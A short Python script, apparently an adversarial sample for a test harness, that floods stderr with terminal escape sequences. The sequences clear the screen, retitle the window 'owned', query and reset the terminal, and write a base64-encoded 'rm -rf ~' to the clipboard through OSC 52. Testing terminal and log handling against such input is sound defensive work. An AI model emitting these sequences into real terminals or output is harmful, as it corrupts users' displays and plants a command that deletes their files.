"""Writes without end to its stderr, with what makes terminals do things, and never a newline."""

import attacker

TRICKS = (
    b"\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[?1049h"
    b"\x1bc\x1bP+q544e\x1b\\\x9b31m\x00\x08\x7f"
)


def attack() -> None:
    for _ in range(32):
        attacker.write(2, TRICKS * (attacker.MIB // len(TRICKS)))
        if attacker.time_left() < 0:
            break
    attacker.write(2, b"\nHELD for others\r\x1b[1A\x1b[2K")


attacker.play(attack, harmless=True)
